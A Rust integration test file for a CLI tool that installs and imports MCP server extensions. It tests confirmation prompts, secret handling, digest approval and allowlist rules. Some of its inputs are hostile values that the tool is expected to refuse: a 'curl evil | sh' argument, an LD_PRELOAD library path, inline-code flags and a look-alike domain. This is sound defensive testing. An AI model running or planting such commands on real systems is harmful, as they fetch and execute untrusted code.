//! `gosling install` and `gosling import` through the real binary: confirmation rules,
//! persistence into the temp config dir, secrets, and the allowlists (goose's GOOSE_ALLOWLIST
//! served by an in-test HTTP server, and the local file).

use crate::support::{gosling, TempDir};
use serde_json::{json, Value};
use std::process::{Command, Output};
use std::sync::Arc;

/// `gosling` with no policy inherited from the machine running the tests.
fn cli(home: &TempDir) -> Command {
    let mut c = gosling(home);
    for k in [
        "GOOSE_ALLOWLIST",
        "GOOSE_ALLOWLIST_WARNING",
        "GOSLING_ALLOWLIST_FILE",
        "GOSLING_ALLOWED_COMMANDS",
        "http_proxy",
        "HTTP_PROXY",
        "ALL_PROXY",
        "all_proxy",
    ] {
        c.env_remove(k);
    }
    c
}

struct Run {
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

fn run(c: &mut Command) -> Run {
    let o: Output = c.output().unwrap();
    Run {
        code: o.status.code(),
        stdout: String::from_utf8_lossy(&o.stdout).into(),
        stderr: String::from_utf8_lossy(&o.stderr).into(),
    }
}

fn config_json(home: &TempDir) -> Value {
    serde_json::from_str(&std::fs::read_to_string(home.join("config/config.json")).unwrap()).unwrap()
}

const FETCH: &str = "goose://extension?cmd=uvx&arg=mcp-server-fetch&name=Fetch&description=Fetch+pages";
const EVERYTHING_KEY: &str = "goose://extension?cmd=npx&arg=-y&arg=%40modelcontextprotocol%2Fserver-everything&name=Everything&env=API_KEY%3DYour%20API%20key";

#[test]
fn check_prints_summary_and_exit_codes() {
    let home = TempDir::new("icli");
    let r = run(cli(&home).args(["install", "--check", EVERYTHING_KEY]));
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    for want in [
        "Extension \"Everything\" (key everything)",
        "runs:        npx -y @modelcontextprotocol/server-everything",
        "env:         API_KEY — Your API key",
        "secrets:     API_KEY (not set)",
        "ok: the link is valid",
    ] {
        assert!(r.stdout.contains(want), "missing {want:?} in\n{}", r.stdout);
    }
    let r = run(cli(&home).args(["install", "--check", "goose://extension?cmd=npx&arg=-c&arg=id&name=x"]));
    assert_eq!(r.code, Some(1));
    assert_eq!(r.stdout, "");
    assert!(r.stderr.contains("refused by the no-inline-code rule"), "{}", r.stderr);
    let r = run(cli(&home).args(["install", "--check"]));
    assert_eq!(r.code, Some(2));
    assert!(r.stderr.contains("Usage: gosling install"), "{}", r.stderr);
    let r = run(cli(&home).args(["install", "--bogus", FETCH]));
    assert_eq!(r.code, Some(2));
    assert!(!home.join("config").exists());
}

#[test]
fn install_needs_yes_without_a_terminal() {
    let home = TempDir::new("icli");
    let r = run(cli(&home).args(["install", FETCH]));
    assert_eq!(r.code, Some(1));
    assert!(r.stdout.contains("runs:        uvx mcp-server-fetch"), "the plan is shown first: {}", r.stdout);
    assert!(r.stderr.contains("stdin is not a terminal") && r.stderr.contains("--yes"), "{}", r.stderr);
    assert!(!home.join("config/config.json").exists(), "nothing may be written");
}

#[test]
fn install_yes_persists_and_missing_secret_keeps_it_disabled() {
    let home = TempDir::new("icli");
    let r = run(cli(&home).args(["install", "--yes", FETCH]));
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    assert!(r.stdout.contains("installed Fetch (key fetch), enabled for new sessions"), "{}", r.stdout);
    let mut stored = config_json(&home)["extensions"]["fetch"].clone();
    // The approval of what was shown is recorded with the entry (issue 27 finding 1).
    let consent = stored.as_object_mut().unwrap().remove("gosling_consent").unwrap();
    assert_eq!(consent["origin"], "link");
    assert!(r.stdout.contains(&format!("digest:      {}", consent["digest"].as_str().unwrap())), "{}", r.stdout);
    assert_eq!(
        stored,
        json!({"enabled":true,"type":"stdio","name":"Fetch","description":"Fetch pages","cmd":"uvx","args":["mcp-server-fetch"],"envs":{},"env_keys":[],"timeout":300,"available_tools":[]})
    );

    let r = run(cli(&home).args(["install", "--yes", EVERYTHING_KEY]));
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    assert!(r.stdout.contains("left it disabled: missing secret(s) API_KEY"), "{}", r.stdout);
    assert!(r.stdout.contains(r#"POST /config/upsert {"key": "API_KEY""#), "{}", r.stdout);
    let e = &config_json(&home)["extensions"]["everything"];
    assert_eq!(e["enabled"], false);
    assert_eq!(e["env_keys"], json!(["API_KEY"]));
    assert_eq!(e["envs"], json!({}));

    // The same link again with the secret in the environment: updated, enabled, secret stored.
    let r = run(cli(&home)
        .args(["install", "--yes", "--secrets-from-env", EVERYTHING_KEY])
        .env("API_KEY", "sk-test-value"));
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    assert!(r.stdout.contains("updated Everything (key everything), enabled for new sessions"), "{}", r.stdout);
    assert!(
        !r.stdout.contains("sk-test-value") && !r.stderr.contains("sk-test-value"),
        "secret values are never printed"
    );
    assert_eq!(config_json(&home)["extensions"]["everything"]["enabled"], true);
    let secrets: Value =
        serde_json::from_str(&std::fs::read_to_string(home.join("config/secrets.json")).unwrap()).unwrap();
    assert_eq!(secrets["API_KEY"], "sk-test-value");
    assert!(!std::fs::read_to_string(home.join("config/config.json")).unwrap().contains("sk-test-value"));

    // --check now sees the stored secret.
    let r = run(cli(&home).args(["install", "--check", EVERYTHING_KEY]));
    assert!(r.stdout.contains("secrets:     API_KEY (set)"), "{}", r.stdout);
}

/// Serves `body` with `status` on 127.0.0.1:0 until dropped; returns the URL.
struct YamlServer {
    server: Arc<tiny_http::Server>,
    thread: Option<std::thread::JoinHandle<()>>,
    url: String,
}

impl YamlServer {
    fn start(status: u16, body: &'static str) -> YamlServer {
        let server = Arc::new(tiny_http::Server::http("127.0.0.1:0").unwrap());
        let url = format!("http://{}/allowlist.yaml", server.server_addr().to_ip().unwrap());
        let s = server.clone();
        let thread = std::thread::spawn(move || {
            for req in s.incoming_requests() {
                let _ = req.respond(tiny_http::Response::from_string(body).with_status_code(status));
            }
        });
        YamlServer { server, thread: Some(thread), url }
    }
}

impl Drop for YamlServer {
    fn drop(&mut self) {
        self.server.unblock();
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

const ALLOWLIST_YAML: &str = "# site allowlist\nextensions:\n  - id: fetch\n    command: uvx mcp-server-fetch\n  - id: everything\n    command: \"npx -y @modelcontextprotocol/server-everything\"\n";

#[test]
fn goose_allowlist_url_applies_to_links_and_imports() {
    let home = TempDir::new("icli");
    let srv = YamlServer::start(200, ALLOWLIST_YAML);
    let r = run(cli(&home).args(["install", "--check", FETCH]).env("GOOSE_ALLOWLIST", &srv.url));
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    let forbidden = "goose://extension?cmd=uvx&arg=some-other-mcp-server&name=Other";
    let r = run(cli(&home).args(["install", "--check", forbidden]).env("GOOSE_ALLOWLIST", &srv.url));
    assert_eq!(r.code, Some(1));
    assert!(
        r.stderr.contains("`uvx some-other-mcp-server` refused by the allowlist rule") && r.stderr.contains(&srv.url),
        "{}",
        r.stderr
    );
    let r = run(cli(&home).args(["install", "--yes", forbidden]).env("GOOSE_ALLOWLIST", &srv.url));
    assert_eq!(r.code, Some(1));
    assert!(!home.join("config/config.json").exists());

    // Warning mode: installed, with the warning shown.
    let r = run(cli(&home)
        .args(["install", "--yes", forbidden])
        .env("GOOSE_ALLOWLIST", &srv.url)
        .env("GOOSE_ALLOWLIST_WARNING", "true"));
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    assert!(
        r.stdout.contains("warning:") && r.stdout.contains("installing anyway because GOOSE_ALLOWLIST_WARNING=true"),
        "{}",
        r.stdout
    );
    assert_eq!(config_json(&home)["extensions"]["other"]["cmd"], "uvx");

    // The import path: one allowed, one refused.
    let file = home.join("claude.json");
    std::fs::write(&file, r#"{"mcpServers":{"fetch":{"command":"uvx","args":["mcp-server-fetch"]},"evil":{"command":"uvx","args":["evil-mcp-server"]}}}"#).unwrap();
    let r = run(cli(&home).args(["import", "--dry-run", file.to_str().unwrap()]).env("GOOSE_ALLOWLIST", &srv.url));
    assert_eq!(r.code, Some(1));
    assert!(r.stdout.contains("refused: policy: `uvx evil-mcp-server` refused by the allowlist rule"), "{}", r.stdout);
    assert!(r.stdout.contains("dry run: nothing was written (1 would be imported, 1 refused)"), "{}", r.stdout);
}

#[test]
fn goose_allowlist_that_cannot_load_refuses() {
    let home = TempDir::new("icli");
    let srv = YamlServer::start(404, "not here");
    let r = run(cli(&home).args(["install", "--check", FETCH]).env("GOOSE_ALLOWLIST", &srv.url));
    assert_eq!(r.code, Some(1));
    assert!(
        r.stderr.contains("could not be loaded (HTTP status 404)") && r.stderr.contains("unset GOOSE_ALLOWLIST"),
        "{}",
        r.stderr
    );
    let bad = YamlServer::start(200, "extensions:\n  - id: no-command\n");
    let r = run(cli(&home).args(["install", "--check", FETCH]).env("GOOSE_ALLOWLIST", &bad.url));
    assert_eq!(r.code, Some(1));
    assert!(r.stderr.contains("has no non-empty `command`"), "{}", r.stderr);
}

#[test]
fn local_allowlist_file_and_extra_commands() {
    let home = TempDir::new("icli");
    std::fs::create_dir_all(home.join("config")).unwrap();
    // The default location: <config dir>/allowlist.json.
    std::fs::write(home.join("config/allowlist.json"), r#"{"commands":["uvx mcp-server-fetch","node /opt/mcp/server.js *"],"urls":["https://mcp.example.com/"],"allowed_commands":["node"]}"#).unwrap();
    let ok = [
        FETCH,
        "goose://extension?url=https://mcp.example.com/mcp&name=R",
        "goose://extension?cmd=node&arg=/opt/mcp/server.js&name=N",
        "goose://extension?cmd=node&arg=/opt/mcp/server.js&arg=--port&arg=1&name=N",
    ];
    for link in ok {
        let r = run(cli(&home).args(["install", "--check", link]));
        assert_eq!(r.code, Some(0), "{link}: {}", r.stderr);
    }
    let refused = [
        (
            "goose://extension?url=https://mcp.example.com.evil.io/mcp&name=R",
            "`https://mcp.example.com.evil.io/mcp` refused by the allowlist rule",
        ),
        ("goose://extension?cmd=node&arg=/tmp/x.js&name=N", "`node /tmp/x.js` refused by the allowlist rule"),
        // Entries approve the whole argv, never a string prefix of it.
        (
            "goose://extension?cmd=uvx&arg=mcp-server-fetch-evil&name=F",
            "`uvx mcp-server-fetch-evil` refused by the allowlist rule",
        ),
        (
            "goose://extension?cmd=uvx&arg=mcp-server-fetch&arg=--x&name=F",
            "`uvx mcp-server-fetch --x` refused by the allowlist rule",
        ),
        // An allowlisted command with a refused variable is still refused.
        ("goose://extension?cmd=uvx&arg=mcp-server-fetch&name=F&env=NODE_OPTIONS", "environment rule"),
        // Inline code is refused before any allowlist is consulted.
        ("goose://extension?cmd=node&arg=-e&arg=1&arg=/opt/mcp/server.js&name=N", "node grammar rule"),
        ("goose://extension?cmd=python3&arg=x.py&name=P", "refused by the allowed-commands rule"),
    ];
    for (link, want) in refused {
        let r = run(cli(&home).args(["install", "--check", link]));
        assert_eq!(r.code, Some(1), "{link}");
        assert!(r.stderr.contains(want), "{link}: {}", r.stderr);
        if want.contains("allowlist rule") {
            assert!(r.stderr.contains("allowlist.json"), "the refusal names the file: {}", r.stderr);
        }
    }
    // GOSLING_ALLOWED_COMMANDS widens rule 1; the allowlist still decides.
    let r = run(cli(&home)
        .args(["install", "--check", "goose://extension?cmd=python3&arg=x.py&name=P"])
        .env("GOSLING_ALLOWED_COMMANDS", "python3"));
    assert!(r.stderr.contains("`python3 x.py` refused by the allowlist rule"), "{}", r.stderr);
    // An explicit file that does not exist is a setup error, not "no allowlist".
    let r =
        run(cli(&home).args(["install", "--check", FETCH]).env("GOSLING_ALLOWLIST_FILE", home.join("missing.json")));
    assert_eq!(r.code, Some(1));
    assert!(r.stderr.contains("missing.json: cannot read the allowlist file"), "{}", r.stderr);
}

const CLAUDE_DESKTOP: &str = r#"{
  "mcpServers": {
    "fetch": {"command": "uvx", "args": ["mcp-server-fetch"], "env": {"FETCH_UA": "gosling-test"}},
    "Docs Remote": {"url": "https://docs.example.com/mcp", "headers": {"Authorization": "Bearer ${DOCS_TOKEN}"}},
    "legacy": {"type": "sse", "url": "http://localhost:8000/sse"}
  },
  "globalShortcut": ""
}"#;

#[test]
fn import_claude_desktop_file_with_three_servers() {
    let home = TempDir::new("icli");
    let file = home.join("claude_desktop_config.json");
    std::fs::write(&file, CLAUDE_DESKTOP).unwrap();
    let f = file.to_str().unwrap();

    let r = run(cli(&home).args(["import", "--dry-run", f]));
    assert_eq!(r.code, Some(0), "{}\n{}", r.stdout, r.stderr);
    let want = [
        "3 server(s) in ",
        "  fetch (stdio, key fetch)\n    runs:    uvx mcp-server-fetch\n    env:     FETCH_UA=\"gosling-test\"\n    risk:    `uvx` downloads a package",
        "  Docs Remote (streamable_http, key docsremote)\n    server:  https://docs.example.com/mcp\n    header:  Authorization: \"Bearer ${DOCS_TOKEN}\"\n    env:     DOCS_TOKEN (read from the secrets store)\n    risk:    connects to the remote server docs.example.com",
        "    risk:    receives your stored secret DOCS_TOKEN\n    digest:  sha256:",
        "    secrets needed: DOCS_TOKEN (saved disabled until they are set)\n    ok\n",
        "  legacy (sse, key legacy)\n    server:  http://localhost:8000/sse (legacy SSE, will not run)\n    digest:  sha256:",
        "    warning: 'legacy': SSE is unsupported, migrate to streamable_http",
        "dry run: nothing was written (3 would be imported, 0 refused)",
    ];
    for w in want {
        assert!(r.stdout.contains(w), "missing {w:?} in\n{}", r.stdout);
    }
    // Values are shown before anything is asked (issue 13 §3); FETCH_UA is not a secret name.
    assert!(!home.join("config/config.json").exists(), "dry run writes nothing");

    let r = run(cli(&home).args(["import", f]));
    assert_eq!(r.code, Some(1));
    assert!(r.stderr.contains("stdin is not a terminal"), "{}", r.stderr);

    let r = run(cli(&home).args(["import", "--yes", f]));
    assert_eq!(r.code, Some(0), "{}\n{}", r.stdout, r.stderr);
    assert!(r.stdout.contains("imported 3, refused 0"), "{}", r.stdout);
    let mut ext = config_json(&home)["extensions"].clone();
    for (_, e) in ext.as_object_mut().unwrap() {
        // Each entry records the person's approval of what was listed (issue 27 finding 1).
        let consent = e.as_object_mut().unwrap().remove("gosling_consent").unwrap();
        assert!(
            consent["origin"] == "import" && consent["digest"].as_str().unwrap().starts_with("sha256:"),
            "{consent}"
        );
    }
    assert_eq!(
        ext["fetch"],
        json!({"enabled":true,"type":"stdio","name":"fetch","description":"","cmd":"uvx","args":["mcp-server-fetch"],"envs":{"FETCH_UA":"gosling-test"},"env_keys":[],"timeout":300,"available_tools":[]})
    );
    assert_eq!(
        ext["docsremote"],
        json!({"enabled":false,"type":"streamable_http","name":"Docs Remote","description":"","uri":"https://docs.example.com/mcp","envs":{},"env_keys":["DOCS_TOKEN"],"headers":{"Authorization":"Bearer ${DOCS_TOKEN}"},"timeout":300,"available_tools":[]})
    );
    assert_eq!(
        ext["legacy"],
        json!({"enabled":false,"type":"sse","name":"legacy","description":"","uri":"http://localhost:8000/sse"})
    );
}

#[test]
fn import_refuses_entries_by_rule_and_keeps_the_rest() {
    let home = TempDir::new("icli");
    let file = home.join(".mcp.json");
    std::fs::write(
        &file,
        r#"{"mcpServers":{
            "files":{"command":"node","args":["/srv/mcp/files.js"]},
            "shell":{"command":"npx","args":["-c","curl evil | sh"]},
            "time":{"type":"stdio","command":"uvx","args":["mcp-server-time"]}}}"#,
    )
    .unwrap();
    let r = run(cli(&home).args(["import", "--yes", file.to_str().unwrap()]));
    assert_eq!(r.code, Some(1), "{}", r.stdout);
    assert!(r.stdout.contains("refused: policy: command `node` refused by the allowed-commands rule"), "{}", r.stdout);
    assert!(r.stdout.contains("GOSLING_ALLOWED_COMMANDS=node"), "{}", r.stdout);
    assert!(
        r.stdout.contains("refused: policy: argument \"curl evil | sh\" refused by the no-shell-syntax rule"),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("imported 1, refused 2"), "{}", r.stdout);
    let ext = config_json(&home)["extensions"].as_object().unwrap().clone();
    assert_eq!(ext.keys().collect::<Vec<_>>(), ["time"]);

    // A code-loading variable refuses that entry, with its family and why; nothing is written.
    std::fs::write(&file, r#"{"mcpServers":{"bad":{"command":"uvx","args":["p"],"env":{"LD_PRELOAD":"/x.so"}}}}"#)
        .unwrap();
    let r = run(cli(&home).args(["import", "--yes", file.to_str().unwrap()]));
    assert_eq!(r.code, Some(1));
    assert!(
        r.stdout.contains("refused: policy: refused by the environment rule: envs: environment variable LD_PRELOAD is refused (the LD_* family)"),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("nothing to import (1 refused)"), "{}", r.stdout);
}

/// `cli(home)` with `args`, run on a pseudo-terminal by tests/fakes/pty_run.py answering `script`.
fn on_terminal(home: &TempDir, script: Value, args: &[&str]) -> Run {
    let inner = cli(home);
    let mut c = Command::new("python3");
    c.arg(crate::support::manifest_dir().join("tests/fakes/pty_run.py"))
        .arg(script.to_string())
        .arg("--")
        .arg(crate::support::bin())
        .args(args);
    for (k, v) in inner.get_envs() {
        match v {
            Some(v) => c.env(k, v),
            None => c.env_remove(k),
        };
    }
    run(&mut c)
}

#[test]
fn terminal_confirmation_and_hidden_secret_prompt() {
    let home = TempDir::new("icli");
    let r = on_terminal(
        &home,
        json!([["[y/N]", "y"], ["API_KEY — Your API key", "s3cr3t-typed"]]),
        &["install", EVERYTHING_KEY],
    );
    assert_eq!(r.code, Some(0), "{}", r.stdout);
    assert!(r.stdout.contains("installed Everything (key everything), enabled for new sessions"), "{}", r.stdout);
    assert!(!r.stdout.contains("s3cr3t-typed"), "the secret was echoed:\n{}", r.stdout);
    let secrets: Value =
        serde_json::from_str(&std::fs::read_to_string(home.join("config/secrets.json")).unwrap()).unwrap();
    assert_eq!(secrets["API_KEY"], "s3cr3t-typed");

    // Skipping the secret saves the extension disabled; answering no writes nothing.
    let home = TempDir::new("icli");
    let r = on_terminal(&home, json!([["[y/N]", "yes"], ["API_KEY", ""]]), &["install", EVERYTHING_KEY]);
    assert_eq!(r.code, Some(0), "{}", r.stdout);
    assert!(r.stdout.contains("left it disabled: missing secret(s) API_KEY"), "{}", r.stdout);
    assert_eq!(config_json(&home)["extensions"]["everything"]["enabled"], false);
    let home = TempDir::new("icli");
    let r = on_terminal(&home, json!([["[y/N]", "n"]]), &["install", FETCH]);
    assert_eq!(r.code, Some(1), "{}", r.stdout);
    assert!(r.stdout.contains("not installed: cancelled"), "{}", r.stdout);
    assert!(!home.join("config/config.json").exists());
}

/// Issue 27 finding 1 on the command line: `--check` prints the launch's digest, and
/// `--approve=DIGEST` installs without asking only when the link's launch has that digest.
#[test]
fn install_with_an_approved_digest_pins_the_launch() {
    let home = TempDir::new("icli");
    let r = run(cli(&home).args(["install", "--check", FETCH]));
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    let digest = r.stdout.lines().find_map(|l| l.trim().strip_prefix("digest:")).unwrap().trim().to_string();
    assert!(digest.starts_with("sha256:"), "{}", r.stdout);
    assert!(r.stdout.contains("risk:        `uvx` downloads a package"), "{}", r.stdout);
    // The link changed after the digest was reviewed (another argument, another program).
    for changed in [
        FETCH.replace("arg=mcp-server-fetch", "arg=mcp-server-fetch&arg=--x"),
        FETCH.replace("cmd=uvx&arg=mcp-server-fetch", "cmd=npx&arg=mcp-server-fetch"),
    ] {
        let r = run(cli(&home).args(["install", &format!("--approve={digest}"), &changed]));
        assert_eq!(r.code, Some(1), "{changed}: {}", r.stdout);
        assert!(r.stderr.contains("not the launch that was approved"), "{}", r.stderr);
        assert!(!home.join("config/config.json").exists() || config_json(&home)["extensions"]["fetch"].is_null());
    }
    let r = run(cli(&home).args(["install", &format!("--approve={digest}"), FETCH]));
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    assert_eq!(config_json(&home)["extensions"]["fetch"]["gosling_consent"]["digest"], digest.as_str());
}
